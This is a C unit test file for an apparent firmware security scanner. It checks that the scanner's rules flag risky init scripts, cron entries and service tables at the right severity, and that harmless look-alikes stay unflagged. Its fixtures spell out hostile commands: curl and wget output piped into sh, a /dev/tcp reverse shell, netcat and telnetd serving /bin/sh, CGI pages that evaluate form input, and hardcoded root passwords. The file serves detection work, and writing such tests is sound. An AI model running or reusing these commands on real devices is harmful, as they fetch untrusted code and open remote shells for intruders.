/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Passes on made-up scripts and tables of commands: what must fire, and its benign twin that must not. */
#include "fake_image.h"

#include "fw/pass/scene.h"

/* ---- scripts: text, rule, severity it must have; -1: nothing of the rule ---- */

static const struct {
	const char *text, *rule;
	int severity;
	bool boot;
} scripts[] = {
	/* negative: what is only mentioned or local proves nothing (F16) */
	{ "# 203.0.113.5\necho 203.0.113.5\nVERSION=1.2.840.10008\nMASK=255.255.255.0", "", -1, true },
	{ "mount -t nfs 192.168.1.10:/rescue /mnt\n", "", -1, true },
	{ "ntpd -p 0.pool.ntp.org\nntpdate 203.0.113.9", "", -1, true },
	{ "ifconfig lo up; ifconfig eth0 up; ifconfig eth0 10.0.0.2 netmask 255.255.255.0", "", -1, true },
	{ "ping 203.0.113.5; nslookup pool.example.org 8.8.8.8; echo nameserver 8.8.8.8 > /etc/resolv.conf", "", -1, true },
	{ "mount -t proc proc /proc; mount /dev/mtdblock3 /data; cp -rf /data/* /opt; chmod +x /opt/app; /opt/app", "", -1,
	  true },
	{ "S=$(nvram get server)\nnc $S 515", "", -1, true },
	/* F3, F4 in full and in parts */
	{ "mount -o nolock -t nfs 202.114.4.119:/pm /mnt", "fw.remote-mount", SEV_HIGH, false },
	{ "mount -t cifs //files.example.org/fw /mnt -o username=u,password=hunter22", "fw.remote-mount", SEV_MEDIUM, false },
	{ "ifconfig eth0 up\nmount -o nolock -t nfs 202.114.4.119:/pm /mnt\ncp -rf /mnt/* /opt/bin\nchmod +x "
	  "/opt/bin/monitor\n/opt/bin/monitor",
	  "fw.code-overwrite", SEV_CRITICAL, false },
	{ "mount -t nfs 203.0.113.5:/pm /mnt && cp -a /mnt /opt", "fw.code-overwrite", SEV_HIGH, false },
	{ "mount -t nfs 203.0.113.5:/pm /mnt\ncp -rf /tmp/x /opt/bin", "fw.code-overwrite", -1, false },
	{ "mount -t nfs 203.0.113.5:/pm /mnt\nsha256sum -c /mnt/list || exit 1\ncp -rf /mnt/* /opt\n/opt/app",
	  "fw.code-overwrite", -1, false },
	{ "mount -t nfs $SERVER:/pm /mnt\ncp -rf /mnt/* /opt\n/opt/app", "fw.code-overwrite", -1, false },
	{ "up() { ifconfig eth0 up; }\nget() { mount -t nfs $1:/pm /mnt; }\nup; get 203.0.113.5; cp -rf /mnt/* /usr/bin; sh "
	  "/usr/bin/go",
	  "fw.code-overwrite", SEV_CRITICAL, false },
	/* F6 in scripts only with something behind it */
	{ "ifconfig eth0 up\nmount -t nfs 203.0.113.5:/pm /mnt", "fw.interface-forced", SEV_HIGH, true },
	/* F7 */
	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_HIGH, false },
	{ "cd /tmp; tftp -g -r fw.bin 203.0.113.5; mtd write fw.bin rootfs", "fw.unverified-update", SEV_HIGH, false },
	{ "wget http://203.0.113.5/fw.sh -O /tmp/fw.sh; gpg --verify /tmp/fw.sig /tmp/fw.sh && sh /tmp/fw.sh",
	  "fw.unverified-update", -1, false },
	{ "wget http://203.0.113.5/notes.txt -O /tmp/notes; sh /etc/other.sh", "fw.unverified-update", -1, false },
	{ "wget http://$SERVER/fw.sh -O /tmp/fw.sh; sh /tmp/fw.sh", "fw.unverified-update", SEV_MEDIUM, false },
	/* F5 */
	{ "nc 203.0.113.5 515 < /tmp/data", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "S=203.0.113.5\n. /etc/app.conf\nwget http://$S/x", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "wget http://203.0.113.5/x", "fw.fixed-destination", SEV_HIGH, false },
	{ "wget http://127.0.0.1/x; curl http://10.1.2.3/x; telnet 192.168.0.1", "fw.fixed-destination", -1, false },
	/* fetched and run: by file, pipe, substitution; checked; run or not */
	{ "wget http://203.0.113.5/go.sh -O /tmp/go; chmod +x /tmp/go; /tmp/go", "fw.script-fetch", SEV_HIGH, false },
	{ "wget -qO- http://203.0.113.5/go.sh | sh", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -fsSL https://get.example.org/go.sh | sudo bash -s -- --yes", "fw.script-fetch", SEV_MEDIUM, false },
	{ "sh -c \"$(curl -fsSL http://get.example.org/go.sh)\"", "fw.script-fetch", SEV_HIGH, false },
	{ "eval `wget -q -O - http://203.0.113.5/go`", "fw.script-fetch", SEV_HIGH, false },
	{ "X=$(curl -s http://203.0.113.5/go)\nlogger x\nsh -c \"$X\"", "fw.script-fetch", SEV_HIGH, false },
	{ "X=$(curl -s http://203.0.113.5/go)\necho \"$X\" | sh", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -s http://203.0.113.5/a.tgz | tar xz -C /opt/app\n/opt/app/run", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -s http://203.0.113.5/a.gz | gunzip > /tmp/a\nsh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -s http://203.0.113.5/a | tee /tmp/a >/dev/null; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	{ "cd /tmp\ncurl -O http://203.0.113.5/a.sh\nsh ./a.sh", "fw.script-fetch", SEV_HIGH, false },
	{ "nc 203.0.113.5 4444 | /bin/sh", "fw.script-fetch", SEV_HIGH, false },
	{ "rsync -a rsync://203.0.113.5/pool/ /opt/app/; /opt/app/start", "fw.script-fetch", SEV_HIGH, false },
	{ "scp fw@203.0.113.5:/x /tmp/x && /tmp/x", "fw.script-fetch", SEV_MEDIUM, false },
	{ "ftpget 203.0.113.5 /tmp/k.ko k.ko; insmod /tmp/k.ko", "fw.script-fetch", SEV_HIGH, false },
	{ "ftp -n 203.0.113.5 <<E\nget run.sh\nE\nsh run.sh", "fw.script-fetch", SEV_HIGH, false },
	{ "tftp -g -r a -l /tmp/a $1; sh /tmp/a", "fw.script-fetch", SEV_MEDIUM, false },
	{ "opkg install http://203.0.113.5/a.ipk", "fw.script-fetch", SEV_HIGH, false },
	{ "wget http://203.0.113.5/a.deb -O /tmp/a.deb; dpkg -i /tmp/a.deb", "fw.script-fetch", SEV_HIGH, false },
	{ "wget http://203.0.113.5/a.py -O /tmp/a.py; python3 /tmp/a.py --x", "fw.script-fetch", SEV_HIGH, false },
	{ "wget http://203.0.113.5/a -O /tmp/a; wget http://203.0.113.5/a.md5 -O /tmp/a.md5; md5sum -c /tmp/a.md5 && sh "
	  "/tmp/a",
	  "fw.script-fetch", SEV_LOW, false },
	{ "wget http://203.0.113.5/a -O /tmp/a; gpg --verify /etc/k.sig /tmp/a && sh /tmp/a", "fw.script-fetch", SEV_INFO,
	  false },
	{ "wget http://203.0.113.5/a -O /tmp/a; sh /opt/a", "fw.script-fetch", -1, false },
	{ "curl -s http://203.0.113.5/time | cut -d: -f2", "fw.script-fetch", -1, false },
	{ "X=$(curl -s http://203.0.113.5/v); echo $X > /tmp/version; sh /etc/init.d/app restart", "fw.script-fetch", -1,
	  false },
	{ "curl -s http://203.0.113.5/list > /tmp/list; echo start | sh /opt/app.sh", "fw.script-fetch", -1, false },
	{ "curl -o /tmp/x -T /tmp/y http://203.0.113.5/; sh /tmp/x", "fw.script-fetch", -1, false },
	{ "opkg update; opkg install tcpdump", "fw.script-fetch", -1, false },
	/* what is asked for first is the owner's; the certificate nobody looks at protects nothing */
	{ "U=$(fw_printenv -n server || echo 203.0.113.5)\nnc $U 515 < /tmp/data", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "wget http://$(nvram get x || echo 203.0.113.5)/x", "fw.fixed-destination", SEV_MEDIUM, false },
	{ "wget $(get http://203.0.113.5/x)", "fw.fixed-destination", -1, false },
	{ "wget -O /tmp/a https://h.example/a; sh /tmp/a", "fw.script-fetch", SEV_MEDIUM, false },
	{ "wget --no-check-certificate -O /tmp/a https://h.example/a; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	{ "curl -sk https://h.example/a | sh", "fw.script-fetch", SEV_HIGH, false },
	{ "uclient-fetch -O /tmp/a http://203.0.113.5/a; sh /tmp/a", "fw.script-fetch", SEV_HIGH, false },
	/* sums that lie in what they are the sums of */
	{ "curl -s http://203.0.113.5/a.tgz | tar xz -C /tmp; cd /tmp; md5sum -c *.md5 && flashcp /tmp/rootfs /dev/mtd2",
	  "fw.script-fetch", SEV_LOW, false },
	{ "wget http://203.0.113.5/a.tgz -O /tmp/a.tgz; sha256sum -c /etc/trusted; tar xzf /tmp/a.tgz -C /tmp; ubiformat "
	  "/dev/mtd2 -f /tmp/rootfs",
	  "fw.script-fetch", SEV_INFO, false },
	/* media that somebody plugs in */
	{ "[ -f /mnt/usb/autorun.sh ] && sh /mnt/usb/autorun.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "[ -x /media/usb0/factory/test ] && /media/usb0/factory/test", "fw.removable-medium", SEV_LOW, false },
	{ "flashcp -v /mnt/sdcard/rootfs.bin /dev/mtd4", "fw.removable-medium", SEV_MEDIUM, true },
	{ "tar xzf /tmp/mmc/update.tgz -C /", "fw.removable-medium", SEV_MEDIUM, true },
	{ "cp /mnt/usb/up.sh /tmp/up.sh; sh /tmp/up.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "md5sum -c /mnt/usb/list; sh /mnt/usb/up.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "gpg --verify /mnt/usb/up.sig /mnt/usb/up.sh && sh /mnt/usb/up.sh", "fw.removable-medium", -1, true },
	{ "mount /dev/$1 /mnt/x$1 && sh /mnt/x$1/start.sh", "fw.removable-medium", SEV_MEDIUM, true },
	{ "mount /dev/mtdblock3 /mnt/x && sh /mnt/x/start.sh; mount /dev/mmcblk0p2 /mnt/y && sh /mnt/y/start.sh",
	  "fw.removable-medium", -1, true },
	{ "cp /var/log/messages /mnt/usb/; cp /mnt/usb/wifi.conf /etc/wifi.conf; cat /mnt/usb/serial", "fw.removable-medium",
	  -1, true },
	{ "sh /mnt/data/app/start.sh; /tmp/usb.sh; sh /etc/hotplug/usb/start; /usr/lib/usb/modeswitch; /mnt/mtd/run",
	  "fw.removable-medium", -1, true },
	{ "mount /dev/$1 /media/x$1; tar xzf /media/x$1/u.tgz -C /tmp/u; cd /tmp/u; ./update.sh", "fw.removable-medium",
	  SEV_MEDIUM, true },
	{ "mount /dev/$1 /media/x$1; tar xzf /media/x$1/u.tgz -C /tmp/u; cd /opt/u; ./update.sh", "fw.removable-medium", -1,
	  true },
	{ "wget -O /tmp/u.tar http://203.0.113.5/u; tar -C /program -xf /tmp/u.tar; sh /program/post.sh", "fw.script-fetch",
	  SEV_HIGH, false },
	{ "/opt/bin/update /tmp/mmc/fw.bin /dev/mtd4", "fw.removable-medium", SEV_LOW, true },
	{ "firmware_update.start /mnt/usb/auto.bin >> /tmp/log 2>&1", "fw.removable-medium", SEV_LOW, true },
	{ "play /mnt/usb/a.wav; update_clock now > /mnt/usb/log; ls /mnt/usb/x; upgrade /var/fw.bin", "fw.removable-medium",
	  -1, true },
	/* what a request says is run */
	{ "#!/usr/bin/haserl\n<p>$x; sh it's</p>\n<% echo \"$FORM_script\" | tr -d x | sh %>\n", "fw.command-injection",
	  SEV_HIGH, false },
	{ "#!/usr/bin/haserl\n<? if [ -n \"$FORM_c\" ]; then ?><b>\n<? printf '%s' \"$FORM_c\" | tr -d x > /tmp/t\nsh /tmp/t\nfi ?>",
	  "fw.command-injection", SEV_HIGH, false },
	{ "#!/usr/bin/haserl\n<% eval \"$POST_cmd\" %>", "fw.command-injection", SEV_HIGH, false },
	{ "#!/usr/bin/haserl\n<% ping -c 3 $FORM_host %><%# eval $POST_a %><%= $GET_b %><input value=\"<% echo $FORM_x | sed s/a/b/ %>\">",
	  "fw.command-injection", -1, false },
	{ "printf '%s' \"$FORM_c\" > /tmp/t; sh /tmp/u; echo start | sh /opt/x", "fw.command-injection", -1, false },
	{ "eval `blkid /dev/$1 | cut -d: -f2-`", "fw.command-injection", SEV_MEDIUM, false },
	{ "eval `blkid -o export /dev/$1`", "fw.command-injection", -1, false },
	{ "echo \"$FORM_s\" | sed \"s/$(echo -ne x)//\" | sh", "fw.command-injection", SEV_HIGH, false },
	{ "U=http://203.0.113.5/x\n[ -n \"$1\" ] && U=$1\nwget -O /tmp/x $U; sh /tmp/x", "fw.script-fetch", SEV_HIGH, false },
	{ "U=http://203.0.113.5/x\nU=$1\nwget -O /tmp/x $U; sh /tmp/x", "fw.script-fetch", SEV_MEDIUM, false },
	{ "eval `/sbin/getopt x $1`", "fw.command-injection", -1, false },
	/* F9 */
	{ "telnetd -l /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
	{ "[ -f /etc/debug ] && telnetd", "fw.remote-shell", SEV_HIGH, true },
	{ "dropbear -p 22", "fw.remote-shell", SEV_INFO, true },
	{ "nc -l -p 4444 -e /bin/sh", "fw.remote-shell", SEV_CRITICAL, false },
	{ "sh -i >& /dev/tcp/203.0.113.5/4444 0>&1", "fw.remote-shell", SEV_CRITICAL, false },
	{ "tcpsvd -vE 0.0.0.0 21 ftpd -w /", "fw.remote-shell", SEV_MEDIUM, true },
	{ "tcpsvd 0 4444 /bin/sh", "fw.remote-shell", SEV_CRITICAL, true },
	{ "procd_open_instance; procd_set_param command /usr/sbin/telnetd -F -l /bin/ash", "fw.remote-shell", SEV_CRITICAL,
	  true },
	{ "procd_set_param env A=telnetd; procd_set_param file /etc/telnetd", "fw.remote-shell", -1, true },
	{ "adbd &", "fw.remote-shell", SEV_MEDIUM, true },
	{ "setprop service.adb.tcp.port 5555; adbd &", "fw.remote-shell", SEV_HIGH, true },
	{ "ssh -N -R 2222:localhost:22 care@hub.example.org", "fw.remote-shell", SEV_HIGH, true },
	{ "ssh -L 2222:localhost:22 care@hub.example.org", "fw.remote-shell", -1, true },
	{ "killall telnetd; echo telnetd; which telnetd", "fw.remote-shell", -1, true },
	/* F10 */
	{ "echo root:hunter22 | chpasswd", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "echo -e 'hunter22\\nhunter22' | passwd root", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "passwd root <<E\nhunter22\nhunter22\nE", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "htpasswd -b -c /etc/w admin hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "pppd call x user a password hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "uci set wireless.@wifi-iface[0].key=hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "nvram set http_passwd=hunter22", "fw.fixed-credential", SEV_MEDIUM, true },
	{ "nvram set http_passwd=$P; uci set system.@system[0].passwd_file=/etc/x; echo $P | passwd root; uci set "
	  "a.b.key=x1y2z3",
	  "fw.fixed-credential", -1, true },
	{ "wget ftp://u:hunter22@203.0.113.5/f", "fw.fixed-credential", SEV_MEDIUM, false },
	{ "curl -u $USER:$PASS http://10.0.0.1/", "fw.fixed-credential", -1, false },
	{ "ftp -n 203.0.113.5 <<E\nuser u hunter22\nget x\nE", "fw.fixed-credential", SEV_MEDIUM, false },
};

static void scripts_give_what_they_do_and_no_more(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
		struct fake k;
		fake_begin(&k);
		fake_file(&k, "etc/init.d/S50app", SCENE_SCRIPT, scripts[i].text)->boot = scripts[i].boot;
		fake_run(&k);
		struct finding *f = *scripts[i].rule ? fake_found(&k, scripts[i].rule) : k.nfound ? k.found[0] : NULL;
		int got = fake_severity(f);
		if (got != scripts[i].severity)
			fail_msg("script %zu: severity %d, expected %d: %s\n%s", i, got, scripts[i].severity, f ? f->title : "no finding",
				 scripts[i].text);
		fake_end(&k);
	}
}

static void lines_of_cron_and_units_are_read(void **state)
{
	static const struct {
		const char *path, *text;
		enum scene_kind kind;
		int severity;
	} tables[] = {
		{ "etc/crontab",
		  "SHELL=/bin/sh\n# * * * * * root wget -qO- http://203.0.113.5/c | sh\n0 3 * * * root /usr/bin/rotate\n", SCENE_CRON,
		  -1 },
		{ "etc/crontab", "*/5 * * * * root wget -qO- http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
		{ "var/spool/cron/crontabs/root", "@reboot curl -s http://203.0.113.5/c | sh\n", SCENE_CRON, SEV_HIGH },
		{ "lib/systemd/system/a.service", "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.5/c | sh'\n", SCENE_UNIT,
		  SEV_HIGH },
		{ "lib/systemd/system/a.service", "[Service]\nDescription=curl http://203.0.113.5/c | sh\n", SCENE_UNIT, -1 },
		{ "etc/inittab",
		  "#::respawn:curl http://203.0.113.5/c | sh\n::off:curl http://203.0.113.5/c | sh\n"
		  "::respawn:-/bin/sh\n",
		  SCENE_INITTAB, -1 },
		{ "etc/inittab", "::once:/bin/sh -c 'wget -qO- http://203.0.113.5/c | sh'\n", SCENE_INITTAB, SEV_HIGH },
		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/fetch fetch http://203.0.113.5/c\n", SCENE_INETD, -1 },
		{ "etc/inetd.conf", "9 stream tcp nowait root /bin/sh sh -c \"curl -s http://203.0.113.5/c | sh\"\n", SCENE_INETD,
		  SEV_HIGH },
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(tables); i++) {
		struct fake k;
		fake_begin(&k);
		assert_int_equal(scene_kind_of(span_str(tables[i].path), span_str(tables[i].text)), tables[i].kind);
		(void)fake_file(&k, tables[i].path, tables[i].kind, tables[i].text);
		fake_run(&k);
		const struct finding *f = fake_found(&k, "fw.script-fetch");
		assert_int_equal(fake_severity(f), tables[i].severity);
		fake_end(&k);
	}
}

static void no_secret_leaves(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(scripts); i++) {
		struct fake k;
		fake_begin(&k);
		(void)fake_file(&k, "a", SCENE_SCRIPT, scripts[i].text);
		fake_run(&k);
		for (uint32_t n = 0; n < k.nfound; n++)
			assert_false(fake_says(&k, k.found[n], "hunter22"));
		fake_end(&k);
	}
}

static void tables_of_services_are_read(void **state)
{
	(void)state;
	struct fake k;
	fake_begin(&k);
	(void)fake_file(&k, "etc/inittab", SCENE_INITTAB, "::sysinit:/etc/init.d/rcS\n#::respawn:telnetd -l /bin/sh\n");
	(void)fake_file(&k, "etc/inetd.conf", SCENE_INETD, "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n");
	fake_run(&k);
	assert_int_equal(k.nfound, 0);
	fake_end(&k);
	fake_begin(&k);
	(void)fake_file(&k, "etc/inittab", SCENE_INITTAB, "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n");
	(void)fake_file(&k, "etc/inetd.conf", SCENE_INETD, "ftp stream tcp nowait root /usr/sbin/ftpd ftpd -w\n"
			"2325 stream tcp nowait root /bin/sh sh -i\n");
	fake_run(&k);
	assert_int_equal(k.nfound, 3);
	assert_int_equal(k.found[0]->severity, SEV_CRITICAL);
	fake_end(&k);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(lines_of_cron_and_units_are_read),
		cmocka_unit_test(scripts_give_what_they_do_and_no_more),
		cmocka_unit_test(no_secret_leaves),
		cmocka_unit_test(tables_of_services_are_read),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
